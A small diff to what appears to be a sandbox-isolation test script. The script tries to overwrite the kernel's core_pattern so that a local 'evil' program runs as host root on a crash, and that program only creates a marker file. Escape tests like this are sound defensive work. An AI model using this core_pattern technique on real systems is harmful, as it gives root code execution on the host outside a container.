@@ -1,5 +1,6 @@
 # Have the kernel run a program of ours as the host's root when something dumps core.
 # outside: ! grep -q evil /proc/sys/kernel/core_pattern
+# own: its own kernel
 { echo "|$PWD/evil %p" >/proc/sys/kernel/core_pattern; } 2>/dev/null && reached core_pattern
 printf '#!/bin/sh\ntouch /tmp/core-pattern-ran\n' >evil
 chmod 755 evil
